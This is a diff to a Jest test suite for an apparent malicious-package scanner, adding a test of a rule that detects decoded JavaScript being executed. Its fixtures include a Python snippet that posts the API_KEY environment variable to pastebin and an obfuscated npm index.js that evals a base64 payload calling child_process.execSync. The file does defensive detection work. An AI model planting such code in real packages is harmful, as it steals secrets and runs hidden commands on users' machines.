@@ -1,4 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
+import { jsExecDecoded } from '../../../src/analysis/rules/js-exec-decoded.js';
 import { pyDownloadExecute } from '../../../src/analysis/rules/py-download-execute.js';
 import { pyExecDecoded } from '../../../src/analysis/rules/py-exec-decoded.js';
 import { pyExfiltration } from '../../../src/analysis/rules/py-exfiltration.js';
@@ -251,6 +252,17 @@ describe('destinations', () => {
         '    data = urllib.parse.urlencode({"api_paste_code": os.environ.get("API_KEY")})',
         '    urllib.request.urlopen("https://pastebin.com/api/api_post.php", data=data)',
       ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+});
+
+describe('javascript string tables', () => {
+  it('resolves a sink looked up on the global object through an array of escaped names', async () => {
+    const payload = Buffer.from("require('child_process').execSync('id')").toString('base64');
+    const findings = await runOn(jsExecDecoded, 'npm', {
+      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
+      'package/index.js': `const _0x1 = ['\\x65\\x76\\x61\\x6c', 'log'];\nglobal[_0x1[0]](Buffer.from('${payload}', 'base64').toString());\n`,
     });
     expect(gating(findings)).toHaveLength(1);
   });
